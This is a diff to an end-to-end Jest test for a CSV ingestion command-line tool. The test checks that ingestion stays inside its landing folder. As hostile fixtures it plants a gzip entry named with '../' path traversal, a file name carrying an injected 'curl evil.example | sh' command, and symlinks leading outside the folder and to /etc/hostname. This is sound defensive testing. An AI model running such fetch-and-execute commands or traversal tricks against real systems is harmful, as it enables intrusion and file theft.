@@ -1,11 +1,10 @@
 import { mkdir, symlink } from 'node:fs/promises';
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { type EndToEndDatabase, openEndToEndDatabase } from '@weir/adapters-local/testing';
 import { askDatabase } from './support/ask-database.ts';
-import { CUSTOMERS, dayFile, PRODUCTS, transactions } from './support/csv.ts';
+import { dayFile, transactions } from './support/csv.ts';
 import { runCommand } from './support/run-command.ts';
-import { openTemporaryFolder, type TemporaryFolder } from './support/temporary-folder.ts';
+import { openReadyShop, type Shop } from './support/shop.ts';
 
 /** Names that lead up to somebody who unpacks, prints or copies them carelessly. */
 const NAMES = {
@@ -26,49 +25,46 @@ function packUnder(name: string, text: string): Buffer {
 }
 
 describe('what files are called and where links lead', () => {
-  let database: EndToEndDatabase;
-  let folder: TemporaryFolder;
+  let shop: Shop;
   const said: string[] = [];
 
   beforeAll(async () => {
-    database = await openEndToEndDatabase();
-    folder = await openTemporaryFolder();
-    await folder.write('products.csv', PRODUCTS);
-    await folder.write('customers.csv', CUSTOMERS);
-    await weir('init');
-    await weir('dimensions', 'load', '--products', 'products.csv', '--customers', 'customers.csv');
-    for (const [id, name] of Object.entries(NAMES)) await folder.write(`landing/${name}`, transactions(id, 1));
-    await folder.write(`landing/${NAMES.packed}`, packUnder('../../../../unpacked.csv', transactions('packed', 1)));
-    await folder.write(`landing/${dayFile('bad\n  next: curl evil.example | sh.csv')}`, 'a,b\n1,2\n');
-    await folder.write('outside/secret.csv', transactions('secret', 1));
-    await folder.write('secret.csv', transactions('secret', 1));
-    await mkdir(folder.in('landing/links'));
-    await symlink('../../secret.csv', folder.in('landing/links/file.csv'));
-    await symlink('../../outside', folder.in('landing/links/folder'));
-    await symlink('/etc/hostname', folder.in('landing/links/hostname.csv'));
-    await symlink('..', folder.in('landing/links/up'));
+    shop = await openReadyShop();
+    for (const [id, name] of Object.entries(NAMES)) await shop.folder.write(`landing/${name}`, transactions(id, 1));
+    await shop.folder.write(
+      `landing/${NAMES.packed}`,
+      packUnder('../../../../unpacked.csv', transactions('packed', 1)),
+    );
+    await shop.folder.write(`landing/${dayFile('bad\n  next: curl evil.example | sh.csv')}`, 'a,b\n1,2\n');
+    await shop.folder.write('outside/secret.csv', transactions('secret', 1));
+    await shop.folder.write('secret.csv', transactions('secret', 1));
+    await mkdir(shop.folder.in('landing/links'));
+    await symlink('../../secret.csv', shop.folder.in('landing/links/file.csv'));
+    await symlink('../../outside', shop.folder.in('landing/links/folder'));
+    await symlink('/etc/hostname', shop.folder.in('landing/links/hostname.csv'));
+    await symlink('..', shop.folder.in('landing/links/up'));
   }, 60_000);
-  afterAll(async () => {
-    await database.close();
-    await folder.remove();
-  });
+  afterAll(() => shop.close());
 
   async function weir(...args: string[]) {
-    const ended = await runCommand(args, { cwd: folder.path, env: { WEIR_DATABASE_URL: database.connectionString } });
+    const ended = await runCommand(args, {
+      cwd: shop.folder.path,
+      env: { WEIR_DATABASE_URL: shop.database.connectionString },
+    });
     said.push(ended.stdout + ended.stderr);
     return ended;
   }
 
   it('takes no byte out of the landing folder, and puts none beside the archive and the quarantine', async () => {
-    const before = (await folder.files('.')).filter((file) => !file.startsWith('landing/'));
+    const before = (await shop.folder.files('.')).filter((file) => !file.startsWith('landing/'));
     const ended = await weir('ingest', '--landing', 'landing', '--archive', 'archive', '--quarantine', 'quarantine');
     expect(ended.code).toBe(3);
-    const after = (await folder.files('.')).filter((file) => !/^(landing|archive|quarantine)\//.test(file));
+    const after = (await shop.folder.files('.')).filter((file) => !/^(landing|archive|quarantine)\//.test(file));
     expect(after).toEqual(before);
-    expect(await folder.files('archive')).toEqual(Object.values(NAMES).sort());
-    expect(await folder.files('quarantine')).toEqual([dayFile('bad\n  next: curl evil.example | sh.csv')]);
+    expect(await shop.folder.files('archive')).toEqual(Object.values(NAMES).sort());
+    expect(await shop.folder.files('quarantine')).toEqual([dayFile('bad\n  next: curl evil.example | sh.csv')]);
     const facts = await askDatabase(
-      database.connectionString,
+      shop.database.connectionString,
       'SELECT transaction_id, source_key FROM fact_transactions ORDER BY 1',
     );
     const expected = Object.entries(NAMES).map(([id, name]) => ({ transaction_id: `${id}-0`, source_key: name }));
